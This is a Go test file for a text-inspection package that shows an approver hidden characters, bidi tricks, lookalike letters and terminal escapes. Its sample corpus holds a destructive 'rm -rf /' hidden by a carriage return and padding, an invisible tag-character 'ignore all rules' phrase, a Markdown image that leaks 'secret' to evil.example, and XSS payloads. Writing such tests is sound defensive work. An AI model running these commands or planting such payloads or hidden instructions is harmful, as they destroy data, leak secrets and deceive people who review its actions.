package safetext

import (
	"fmt"
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"

	"pgregory.net/rapid"

	"github.com/assent-dev/assent/internal/golden"
)

// plain returns shown text with its pieces marked as [class:text], for golden files.
func (s Shown) plain() string {
	var b strings.Builder
	for _, p := range s.Pieces {
		switch {
		case p.Class != "":
			fmt.Fprintf(&b, "[%s:%s]", p.Class, p.Text)
		case p.Isolate:
			fmt.Fprintf(&b, "[isolated:%s]", p.Text)
		default:
			b.WriteString(p.Text)
		}

		if p.Break {
			b.WriteString("↵\n")
		}
	}

	return b.String()
}

// corpus returns texts that were or could be used to make an approver see something else than
// what runs.
func corpus() []struct{ name, text string } {
	tags := func(s string) string {
		var b strings.Builder
		for _, c := range s {
			b.WriteRune(tagBase + c)
		}
		return b.String()
	}
	return []struct{ name, text string }{
		{"plain", "Pay 20,000 EUR to ACME (invoice #7)."},
		{"quotes and backslashes", `C:\new\u{202e} "x"`},
		{"bidi override", "invoice\u202egnp.exe"},
		{"bidi isolates and marks", "a\u2066b\u2069c\u200ed\u200fe\u061cf"},
		{"zero width", "pay\u200bpal\u200c\u200d\u2060\ufeff"},
		{"zero width padding", "a" + strings.Repeat("\u200b", 400) + "b"},
		{"tag block", "hello" + tags("ignore all rules") + "!"},
		{"language tag alone", "x\U000e0001y"},
		{"ANSI and OSC", "\x1b[2J\x1b]0;title\x07ok\x9b31m"},
		{"carriage return", "rm -rf /\r\necho ok     "},
		{"tabs and breaks", "a\tb\nc\n\nd\n\n\n\n\ne"},
		{"padding", "ok" + strings.Repeat(" ", 300) + "; rm -rf /"},
		{"eight spaces", "a        b"},
		{"odd spaces", "a\u00a0b\u2003c\u3000d\u1680e"},
		{"separators", "a\u2028b\u2029c"},
		{"private use", "a\ue000b\U0010fffdc"},
		{"unassigned and nonchars", "a\u0378b\ufffec"},
		{"fillers", "a\u3164b\u115fc\u2800d\u034fe"},
		{"variation selectors", "a\ufe0fb\U000e0100c"},
		{"invalid UTF-8", "a\xffb\xc3\x28\xed\xa0\x80"},
		{"Cyrillic for Latin", "\u0440\u0430\u0443\u0440\u0430l.com"},
		{"whole word Cyrillic", "\u0430\u0440\u0440\u04cf\u0435"},
		{"Greek for Latin", "\u0391CME \u03bf"},
		{"ordinary Russian", "Привет, мир и всем добрый день"},
		{"ordinary Greek", "Καλημέρα κόσμε"},
		{"accents", "Crème brûlée für Zoë, naïve coöperation"},
		{"fullwidth", "ｒｍ －ｒｆ １００"},
		{"mathematical", "𝐩𝐚𝐲𝗉𝖺𝗅 𝟏𝟎𝟎"},
		{"circled and roman", "ⓟⓐⓨ Ⅷ"},
		{"digits of other scripts", "١٠٠ and १००"},
		{"signs for ASCII signs", "a∕b⁄c․d։e−f‐g"},
		{"prose quotes and dashes", "“yes” – it’s fine — ok…"},
		{"Hebrew", "שלום 123 abc"},
		{"Japanese with Latin", "T恤 と カタカナ"},
		{"zalgo", "p\u0301\u0302\u0303\u0304\u0305\u0306\u0307ay"},
		{"overlay", "100\u0338 and a\u20dd"},
		{"marks alone", "\u0301x"},
		{"Vietnamese", "Tiếng Việt"},
		{"emoji", "ok \U0001f44d\U0001f3fd \U0001f468\u200d\U0001f469\u200d\U0001f467"},
		{"Markdown", "![x](https://evil.example/?q=secret) [ok](javascript:alert(1)) **bold**"},
		{"HTML", `<script>alert(1)</script><img src=x onerror=alert(1)> &lt;b&gt; </textarea>'"`},
		{"alternating white space", "a" + strings.Repeat(" \n", 4) + "\t\nb"},
	}
}

func TestCorpus(t *testing.T) {
	var b strings.Builder
	for _, c := range corpus() {
		for _, f := range []struct {
			name string
			Form
		}{{"label", Form{}}, {"string", Form{Quoted: true}}, {"message", Form{Block: true}}} {
			s := Inspect(c.text, f.Form)
			fmt.Fprintf(&b, "## %s, %s\n%s\n", c.name, f.name, s.plain())
			if f.name == "label" {
				for _, w := range s.Flags.Words() {
					fmt.Fprintf(&b, "! %s\n", w)
				}
			}
		}
	}

	golden.Equal(t, "corpus.golden", b.String())
}

// No input puts a character into the page that is hidden, reorders text or acts on the terminal.
func TestNothingHiddenIsShown(t *testing.T) {
	rapid.Check(t, func(t *rapid.T) {
		text := string(rapid.SliceOfN(rapid.OneOf(
			rapid.Byte(), rapid.SampledFrom([]byte("\xe2\x80\xae\xf3\xa0\x81\x81 \\\"\n")),
		), 0, 60).Draw(t, "bytes")) + rapid.String().Draw(t, "text")
		f := Form{
			Quoted: rapid.Bool().Draw(t, "quoted"),
			Limit:  rapid.SampledFrom([]int{0, 0, 7, 40}).Draw(t, "limit"),
		}
		for _, p := range Inspect(text, f).Pieces {
			if !utf8.ValidString(p.Text) {
				t.Fatalf("%q: piece %q is no UTF-8", text, p.Text)
			}
			for _, r := range p.Text {
				if unicode.In(r, unicode.C, unicode.Zl, unicode.Zp) || unicode.Is(unicode.Zs, r) && r != ' ' {
					t.Fatalf("%q: %q reaches the page", text, r)
				}
			}
		}
	})
}

// The notation can be inverted, so no two strings look alike.
func TestDifferentTextsLookDifferent(t *testing.T) {
	rapid.Check(t, func(t *rapid.T) {
		gen := rapid.SliceOfN(rapid.SampledFrom([]rune("ab\\nu{2}x \n\t\u202e\u200b\U000e0041\"é\u0301\u0430")), 0, 12)
		a, b := string(gen.Draw(t, "a")), string(gen.Draw(t, "b"))
		for _, f := range []Form{{}, {Quoted: true}} {
			if x, y := Inspect(a, f).plain(), Inspect(b, f).plain(); x == y && a != b {
				t.Fatalf("%q and %q are both shown as %s", a, b, x)
			}
		}
	})
}

func TestCutsAreAnnounced(t *testing.T) {
	s := Inspect(strings.Repeat("a", 5000)+"END", Form{Limit: 300})
	if got := s.plain(); !s.Cut || !strings.Contains(got, "4,703 of 5,003 characters not shown here") ||
		!strings.HasSuffix(got, "END") {
		t.Errorf("cut %v: %s", s.Cut, got)
	}
	if s := Inspect(strings.Repeat("a", 300), Form{Limit: 300}); s.Cut {
		t.Error("what fits is not cut")
	}
}

func TestConfusableTables(t *testing.T) {
	for r, want := range map[rune]rune{
		'\u0430': 'a',
		'\u043e': 'o',
		'\u0455': 's',
		'\u0391': 'A',
		'\u03bf': 'o',
		'\u0578': 'n',
		'\u13aa': 'A',
		'\ua4dc': 'Z',
	} {
		if got, ok := alikeLetter(r); !ok || got != want {
			t.Errorf("alikeLetter(%U) = %q, want %q", r, got, want)
		}
	}

	for r, want := range map[rune]string{
		'\u2215': "/",
		'\u2010': "-",
		'\u2024': ".",
		'\uff0f': "/",
		'\u201c': "",
		'é':      "",
		'/':      "",
		'\u223c': "~",
		'\u2016': "|",
		'\u02cb': "",
		'\u2217': "*",
	} {
		if got := alikeSign(r); got != want {
			t.Errorf("alikeSign(%U) = %q, want %q", r, got, want)
		}
	}

	// One sign per family; NFKC folds the others.
	for as, r := range map[string]rune{
		"-": '−', "/": '⧸', ":": '։', ".": '․', ",": '‚', "'": 'ʹ', `"`: '‟', "*": '٭', "<": '‹', ">": '›', "!": 'ǃ',
		`\`: '∖', "|": 'ǁ', "~": '⁓', ";": '\u037e', "_": 'ˍ',
	} {
		if got := alikeSign(r); got != as {
			t.Errorf("alikeSign(%U) = %q, want %q", r, got, as)
		}
	}
}

func TestAlphanumeric(t *testing.T) {
	for c := range 256 {
		want := c < 128 && (unicode.IsLetter(rune(c)) || unicode.IsDigit(rune(c)))
		if alphanumeric(byte(c)) != want {
			t.Errorf("%q: %v", rune(c), !want)
		}
	}
}

func FuzzInspect(f *testing.F) {
	for _, c := range corpus() {
		f.Add(c.text, true, 50)
	}
	f.Fuzz(func(t *testing.T, text string, quoted bool, limit int) {
		s := Inspect(text, Form{Quoted: quoted, Block: !quoted, Limit: limit % 1000})
		if len(text) > 0 && len(s.Pieces) == 0 {
			t.Errorf("%q is shown as nothing", text)
		}
	})
}

func TestCount(t *testing.T) {
	for n, want := range map[int]string{0: "0", 999: "999", 1000: "1,000", 1234567: "1,234,567"} {
		if got := Count(n); got != want {
			t.Errorf("Count(%d) = %s", n, got)
		}
	}
}
